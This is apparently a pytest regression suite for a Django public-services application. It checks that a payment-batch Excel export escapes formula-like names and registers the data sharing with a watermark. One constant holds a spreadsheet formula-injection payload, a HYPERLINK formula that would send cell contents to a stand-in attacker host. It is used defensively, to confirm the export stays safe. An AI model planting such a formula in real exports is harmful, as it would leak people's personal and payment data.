"""Issue 13, found item 2: a person named as a formula stays text in the finance bureau's
payment export (zhihui.core.spreadsheets.save_workbook)."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


@pytest.mark.django_db
def test_a_person_named_as_a_formula_stays_text_in_the_payment_export(
    fake_engine, make_user, make_person, clerk, reviewer, approver, service, budgets, admin_user, settings, tmp_path
):
    from zhihui.core.roles import Role
    from zhihui.window import actions
    from zhihui.window.payments import export_batch

    settings.MEDIA_ROOT = str(tmp_path)
    fake_engine["payments"] = [{"year": 2026, "amount": "20000.00"}]
    person = make_person(name=HOSTILE)
    citizen = make_user(Role.CITIZEN, "hostile", person=person)
    app, _ = actions.submit(citizen, service, person=person)
    actions.accept(clerk, app)
    actions.review(reviewer, app)
    actions.approve(approver, app)  # separation of duties: not whoever reviewed it
    batch = actions.create_payment_batch(admin_user, 2026)
    data = export_batch(batch)
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    cell = ws.cell(row=2, column=4)
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert all(b"<f>" not in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.django_db
def test_the_payment_export_is_registered_as_sharing_and_watermarked(
    fake_engine, citizen, clerk, reviewer, approver, service, budgets, admin_user, make_user, client_for, settings, tmp_path
):
    from zhihui.privacy.models import ExportRecord, SharingRecord
    from zhihui.window import actions

    settings.MEDIA_ROOT = str(tmp_path)
    fake_engine["payments"] = [{"year": 2026, "amount": "20000.00"}]
    app, _ = actions.submit(citizen, service, person=citizen.person)
    actions.accept(clerk, app)
    actions.review(reviewer, app)
    actions.approve(approver, app)  # separation of duties: not whoever reviewed it
    batch = actions.create_payment_batch(admin_user, 2026)
    from zhihui.core.roles import Role

    actions.release_batch(make_user(Role.ADMIN, "admin2_t"), batch)  # a second person releases it
    r = client_for(admin_user).post(f"/window/payments/batches/{batch.number}.xlsx")
    assert r.status_code == 200
    share = SharingRecord.objects.get()
    assert share.recipient == "济源示范区财政局" and list(share.persons.all()) == [citizen.person]
    assert share.reference == batch.number and share.record_count == 1
    mark = ExportRecord.objects.get().watermark
    wb = load_workbook(io.BytesIO(r.content))
    info = wb["批次信息"]
    assert [row for row in info.iter_rows(values_only=True) if row[0] == "导出登记"] == [("导出登记", mark)]
    assert admin_user.username in mark and wb.worksheets[0].oddHeader.center.text == mark
